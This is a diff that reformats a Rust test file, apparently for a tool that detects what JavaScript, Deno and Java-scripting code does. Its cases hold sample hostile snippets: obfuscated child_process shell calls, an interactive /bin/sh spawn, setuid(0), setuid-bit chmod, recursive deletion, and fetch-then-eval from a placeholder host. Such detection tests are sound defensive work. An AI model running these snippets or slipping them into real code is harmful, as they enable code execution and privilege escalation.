@@ -9,18 +9,9 @@ fn running_is_seen_through_every_spelling() {
         Node,
         &[
             ("require('child_process').exec('id')", &["shell id"]),
-            (
-                "require(\"child_process\")[\"exec\"](\"id\")",
-                &["shell id"],
-            ),
-            (
-                "require('node:child_process').execSync(`id`)",
-                &["shell id"],
-            ),
-            (
-                "const {execSync:x} = require('child_process'); x('id')",
-                &["shell id"],
-            ),
+            ("require(\"child_process\")[\"exec\"](\"id\")", &["shell id"]),
+            ("require('node:child_process').execSync(`id`)", &["shell id"]),
+            ("const {execSync:x} = require('child_process'); x('id')", &["shell id"]),
             (
                 "const { exec, spawn } = require('child_process')\nspawn('ls', ['-l'])",
                 &["argv ls|-l"],
@@ -29,42 +20,18 @@ fn running_is_seen_through_every_spelling() {
                 "const cp = require('child_process');\ncp.spawnSync('sh', ['-c', 'id'], {stdio: 'inherit'})",
                 &["argv sh|-c|id"],
             ),
-            (
-                "import {execSync as x} from 'child_process'; x('id')",
-                &["shell id"],
-            ),
+            ("import {execSync as x} from 'child_process'; x('id')", &["shell id"]),
             (
                 "import cp from \"node:child_process\"\ncp.execFileSync('ls', ['-a'])",
                 &["argv ls|-a"],
             ),
-            (
-                "import * as cp from 'child_process'; cp.exec('id')",
-                &["shell id"],
-            ),
-            (
-                "import('child_process').then(m => m.exec('id'))",
-                &["shell id"],
-            ),
-            (
-                "process.mainModule.require('child_process').exec('id')",
-                &["shell id"],
-            ),
-            (
-                "global.process.mainModule.require('child_process').execSync('id')",
-                &["shell id"],
-            ),
-            (
-                "require('child_process').spawn('/bin/sh', {stdio: [0, 1, 2]})",
-                &["argv /bin/sh"],
-            ),
-            (
-                "require('child_process').spawn('ls -l', {shell: true})",
-                &["shell ls -l"],
-            ),
-            (
-                "const c = 'i' + 'd'; require('child_process').exec(c)",
-                &["shell id"],
-            ),
+            ("import * as cp from 'child_process'; cp.exec('id')", &["shell id"]),
+            ("import('child_process').then(m => m.exec('id'))", &["shell id"]),
+            ("process.mainModule.require('child_process').exec('id')", &["shell id"]),
+            ("global.process.mainModule.require('child_process').execSync('id')", &["shell id"]),
+            ("require('child_process').spawn('/bin/sh', {stdio: [0, 1, 2]})", &["argv /bin/sh"]),
+            ("require('child_process').spawn('ls -l', {shell: true})", &["shell ls -l"]),
+            ("const c = 'i' + 'd'; require('child_process').exec(c)", &["shell id"]),
             (
                 "const d='/etc'; require('child_process').exec(`cat ${d}/hosts`)",
                 &["shell cat /etc/hosts"],
@@ -78,47 +45,26 @@ fn running_is_seen_through_every_spelling() {
                 &["shell uname"],
             ),
             ("eval(atob('MSsx'))", &["eval node 1+1"]),
-            (
-                "require('child_process').exec(String.fromCharCode(105,100))",
-                &["shell id"],
-            ),
+            ("require('child_process').exec(String.fromCharCode(105,100))", &["shell id"]),
             (
                 "require('child_process').exec([105,100].map(c => String.fromCharCode(c)).join(''))",
                 &["shell id"],
             ),
-            (
-                "require('child_process').exec('di'.split('').reverse().join(''))",
-                &["shell id"],
-            ),
+            ("require('child_process').exec('di'.split('').reverse().join(''))", &["shell id"]),
             ("new Function('return 1')()", &["eval node return 1"]),
             ("Function('a', 'return a')(1)", &["eval node return a"]),
             ("require('vm').runInThisContext('1+1')", &["eval node 1+1"]),
-            (
-                "require('child_process').exec(process.env.TARGET)",
-                &["shell /srv/data.bin"],
-            ),
-            (
-                "require('child_process').exec(process.argv[1])",
-                &["shell first-arg"],
-            ),
+            ("require('child_process').exec(process.env.TARGET)", &["shell /srv/data.bin"]),
+            ("require('child_process').exec(process.argv[1])", &["shell first-arg"]),
             ("require('./lib/x')", &["script node ./lib/x"]),
             ("require('/srv/evil.node')", &["load /srv/evil.node"]),
-            (
-                "function r(c) { require('child_process').exec(c) }\nr('id')",
-                &["shell id"],
-            ),
-            (
-                "const r = c => require('child_process').exec(c);\nr('id')",
-                &["shell id"],
-            ),
+            ("function r(c) { require('child_process').exec(c) }\nr('id')", &["shell id"]),
+            ("const r = c => require('child_process').exec(c);\nr('id')", &["shell id"]),
             (
                 "['id','who'].forEach(c => require('child_process').execSync(c))",
                 &["shell {id|who}"],
             ),
-            (
-                "process.setuid(0); require('child_process').exec('id')",
-                &["user 0", "shell id"],
-            ),
+            ("process.setuid(0); require('child_process').exec('id')", &["user 0", "shell id"]),
             ("process.dlopen(module, './x.node')", &["load ./x.node"]),
             ("Deno.run({cmd: ['id', '-u']})", &["argv id|-u"]),
             ("new Deno.Command('id', {args: ['-u']})", &["argv id|-u"]),
@@ -128,10 +74,7 @@ fn running_is_seen_through_every_spelling() {
                 "Java.type('java.lang.Runtime').getRuntime().exec('/bin/sh -c id').waitFor()",
                 &["argv /bin/sh|-c|id"],
             ),
-            (
-                "var p = new java.lang.ProcessBuilder('/bin/sh', '-i').start()",
-                &["argv /bin/sh|-i"],
-            ),
+            ("var p = new java.lang.ProcessBuilder('/bin/sh', '-i').start()", &["argv /bin/sh|-i"]),
         ],
     );
 }
@@ -141,27 +84,15 @@ fn files_and_connections() {
     check(
         Node,
         &[
-            (
-                "console.log(require('fs').readFileSync('/etc/hosts', 'utf8'))",
-                &["read /etc/hosts"],
-            ),
+            ("console.log(require('fs').readFileSync('/etc/hosts', 'utf8'))", &["read /etc/hosts"]),
             (
                 "const fs=require('fs'); fs.writeFileSync('/tmp/x', 'DATA')",
                 &["write /tmp/x <- DATA"],
             ),
-            (
-                "require('fs').appendFileSync('/tmp/x', 'DATA')",
-                &["append /tmp/x <- DATA"],
-            ),
-            (
-                "require('fs').rmSync('/srv/x', {recursive: true, force: true})",
-                &["tree /srv/x"],
-            ),
+            ("require('fs').appendFileSync('/tmp/x', 'DATA')", &["append /tmp/x <- DATA"]),
+            ("require('fs').rmSync('/srv/x', {recursive: true, force: true})", &["tree /srv/x"]),
             ("require('fs').unlinkSync('/srv/x')", &["delete /srv/x"]),
-            (
-                "require('fs').chmodSync('/tmp/x', 0o4755)",
-                &["mode 4755 /tmp/x"],
-            ),
+            ("require('fs').chmodSync('/tmp/x', 0o4755)", &["mode 4755 /tmp/x"]),
             (
                 "import {promises as fs} from 'fs'; await fs.readFile('/etc/hosts')",
                 &["read /etc/hosts"],
@@ -202,10 +133,7 @@ fn files_and_connections() {
                 "const r = await fetch('http://h.example/x'); eval(await r.text())",
                 &["fetch http://h.example/x", "received"],
             ),
-            (
-                "cp('http://h.example/x','/tmp/x')",
-                &["fetch http://h.example/x -> /tmp/x"],
-            ),
+            ("cp('http://h.example/x','/tmp/x')", &["fetch http://h.example/x -> /tmp/x"]),
             (
                 "var fw=new java.io.FileWriter('/tmp/x'); fw.write('DATA'); fw.close()",
                 &["write /tmp/x <- DATA"],
@@ -231,10 +159,7 @@ fn harmless_look_alikes_give_nothing() {
             ),
             ("const m = /exec\\((.*)\\)/.exec(line)", &[]),
             ("require('lodash').map([1], x => x)", &[]),
-            (
-                "const path = require('path'); console.log(path.join('a','b'))",
-                &["print a/b\n"],
-            ),
+            ("const path = require('path'); console.log(path.join('a','b'))", &["print a/b\n"]),
             ("process.stdin.on('data', d => console.log(d.length))", &[]),
             ("const o = {exec: 1, eval: 'x'}; o.exec", &[]),
             ("class A { exec(x) { return x } }", &[]),
